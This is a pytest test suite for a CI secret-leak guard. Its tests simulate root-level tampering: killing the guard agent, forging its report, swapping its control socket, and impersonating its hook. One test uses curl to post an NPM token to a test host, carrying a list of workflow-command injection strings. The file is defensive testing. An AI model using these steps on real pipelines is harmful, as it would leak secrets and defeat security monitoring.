# SPDX-License-Identifier: MIT
"""The agent is killed, the worker is killed, the thief speaks to the runner."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import sys
import threading
import time
from contextlib import closing
from pathlib import Path

import pytest

from e2e.acting import ACTION, Bench, Pause, wait_for
from lab import Lab
from lab.guard import AGENT
from lab.network import BARE
from lab.tokens import Token
from leakstop.daemon import fold
from leakstop.daemon.client import AgentClient
from leakstop.daemon.control import Channel
from leakstop.model.codec import to_json

pytestmark = [pytest.mark.root, pytest.mark.act]


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_the_agent_is_killed_in_the_middle(acting: Bench, lab: Lab, mode: str) -> None:
    pause = Pause(lab.directory)
    run = acting.start(
        f"""
        - uses: {ACTION}
          with:
            mode: {mode}
        - id: wait
          run: |
            {pause}
            curl -sS -m 10 https://other.test/ || true
        """
    )
    pause.wait()
    (directory,) = run.agents
    with closing(AgentClient.connect(directory)) as client:
        os.kill(client.status()["pid"], signal.SIGKILL)
    pause.end()
    outcome = run.wait()
    lab.settle()
    assert outcome.red
    assert outcome.result("wait") == "success"
    assert len(lab.other.connections) == (1 if mode == "audit" else 0), "block stays block"
    errors = {error.title: error.message for error in outcome.annotations("error")}
    assert "The guard was not whole from " in errors["Leakstop: not protected"]
    assert "the agent was killed by SIGKILL" in errors["Leakstop: not protected"]
    assert outcome.record("run")[0]["exit_code"] == 12
    assert run.agents == [], "what it left in the kernel is gone, too"


def test_the_agent_ends_in_order_before_the_job_does(acting: Bench, lab: Lab) -> None:
    """Whoever is root can end it; that it ended politely proves nothing about the rest."""
    pause = Pause(lab.directory)
    run = acting.start(
        f"""
        - uses: {ACTION}
        - run: {pause}
        """
    )
    pause.wait()
    (directory,) = run.agents
    with closing(AgentClient.connect(directory)) as client:
        client.finish()
    pause.end()
    outcome = run.wait()
    assert outcome.red
    assert [error.title for error in outcome.annotations("error")] == ["Leakstop: not protected"]


def test_a_step_that_speaks_like_the_hook_is_refused_and_the_hook_is_not(
    acting: Bench, lab: Lab
) -> None:
    """As root, started by node on a script of the hook's name, with the hook's own arguments."""
    fake, said = lab.directory / "post.js", lab.directory / "said"
    fake.write_text(
        "const { spawnSync } = require('node:child_process');\n"
        f"spawnSync({json.dumps(sys.executable)}, process.argv.slice(2), {{stdio: 'inherit'}});\n"
    )
    begun, which = lab.directory / "begun", lab.directory / "which"
    run = acting.start(
        f"""
        - uses: {ACTION}
        - env:
            PYTHONPATH: {AGENT}
          run: |
            touch {begun}
            until [ -e {which} ]; do sleep 0.05; done
            node {fake} -m leakstop stop --run-dir $(cat {which}) 2> {said} || true
        """
    )
    wait_for(begun)
    (directory,) = run.agents
    which.with_suffix(".new").write_text(str(directory))
    which.with_suffix(".new").rename(which)
    outcome = run.wait()
    assert "it belongs to the job, and is not the hook that the runner calls" in said.read_text()
    assert outcome.red, outcome.text
    assert outcome.record("run")[0]["exit_code"] == 10
    assert "The job asked for the guard's end" in outcome.summary


def test_a_record_that_was_forged_is_not_believed(acting: Bench, lab: Lab) -> None:
    """Agent and supervisor are killed at once, and a report is put where theirs would be."""
    pause = Pause(lab.directory)
    run = acting.start(
        f"""
        - uses: {ACTION}
        - run: {pause}
        """
    )
    pause.wait()
    (directory,) = run.agents
    with closing(AgentClient.connect(directory)) as client:
        agent, so_far = client.status()["pid"], client.report()
    assert so_far.verdict == "pass"
    for pid in (parent_of(agent), agent):
        os.kill(pid, signal.SIGKILL)
    fold.save_final(directory, so_far, fold.load_state(directory).run)
    pause.end()
    outcome = run.wait()
    assert outcome.red
    assert [error.title for error in outcome.annotations("error")] == ["Leakstop: not protected"]
    assert outcome.record("run")[0]["exit_code"] == 12


def test_a_socket_in_the_agents_place_is_not_believed(acting: Bench, lab: Lab) -> None:
    """The agent lives and knows better; somebody who became root answers in its stead."""
    pause = Pause(lab.directory)
    run = acting.start(
        f"""
        - uses: {ACTION}
        - run: |
            {pause}
            curl -sS -m 10 https://other.test/ || true
        """
    )
    pause.wait()
    (directory,) = run.agents
    with closing(AgentClient.connect(directory)) as client:
        so_far = client.report()
    assert so_far.verdict == "pass"
    control = directory / "control.sock"
    control.rename(directory / "control.old")
    asked: list[str] = []
    with closing(socket.socket(socket.AF_UNIX)) as listener:
        listener.bind(str(control))
        control.chmod(0o666)
        listener.listen()
        threading.Thread(target=answer, args=(listener, to_json(so_far), asked)).start()
        pause.end()
        outcome = run.wait()
        listener.shutdown(socket.SHUT_RDWR)
    assert asked == [], "not even the key is told"
    assert outcome.red
    assert [error.title for error in outcome.annotations("error")] == ["Leakstop: not protected"]
    assert outcome.record("run")[0]["exit_code"] == 12


def answer(listener: socket.socket, report: object, asked: list[str]) -> None:
    """Say to everybody who asks that all is well."""
    with contextlib.suppress(OSError):
        while True:
            channel = Channel(listener.accept()[0])
            with closing(channel):
                if question := channel.receive():
                    asked.append(question["ask"])
                    channel.send({"ok": True, "report": report})


def parent_of(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


def test_a_second_use_of_the_action_is_refused(acting: Bench) -> None:
    """Each guard would take the other for an attack."""
    outcome = acting.run(
        f"""
        - uses: {ACTION}
        - uses: {ACTION}
        - if: always()
          id: after
          run: echo "went on"
        """
    )
    assert outcome.red
    (error,) = outcome.annotations("error")
    assert "guarded already, by an earlier use of this action" in error.message + error.title
    (run,) = outcome.record("run")
    assert run["verdict"] == "pass"
    assert outcome.record("finding") == []


def test_the_worker_is_killed(acting: Bench, lab: Lab) -> None:
    """No post step will come: the agent ends by itself."""
    begun = lab.directory / "begun"
    run = acting.start(f"- uses: {ACTION}\n- run: touch {begun}; sleep 60\n")
    wait_for(begun)
    (directory,) = run.agents
    with closing(AgentClient.connect(directory)) as client:
        agent = client.status()["pid"]
    run.process.kill()
    deadline = time.monotonic() + 10
    while os.path.exists(f"/proc/{agent}") and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not os.path.exists(f"/proc/{agent}")


INJECTIONS = (
    "::error title=INJECTED::x",
    "##[error]INJECTED",
    "%0A::warning title=INJECTED::x",
    "</details><h1>INJECTED",
    "::add-mask::leakstop",
    "::stop-commands::INJECTED",
)


def test_what_a_thief_writes_does_not_speak_to_the_runner(
    acting: Bench, lab: Lab, secret: Token
) -> None:
    """Arguments and names end up in our log and summary; they must stay text there."""
    arguments = " ".join(f"-A $'\\n{text}'" for text in INJECTIONS)
    program = lab.directory / "::error title=INJECTED::"
    program.symlink_to("/usr/bin/curl")
    outcome = acting.run(
        f"""
        - uses: {ACTION}
          with:
            secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
        - id: collect
          shell: bash
          run: >
            '{program}' -g -s -m 10 {arguments} -d "${{{{ secrets.NPM_TOKEN }}}}"
            'http://{BARE}/##[error]INJECTED' || true
        """,
        secrets=[secret],
    )
    lab.settle()
    assert lab.collector.connections == []
    assert outcome.red, outcome.text
    (error,) = outcome.annotations()
    assert error.title == "Leakstop: a secret was stopped on its way out"
    for line in outcome.said("Post").splitlines():
        assert not line.lstrip().startswith("::")
        assert "##[" not in line
    commands = {event.get("command") for event in outcome.events if event.get("stage") == "Post"}
    assert commands <= {None, "error", "group", "endgroup", "set-output", "summary"}
    assert "<h1>" not in outcome.summary
    assert outcome.shows(secret) == []
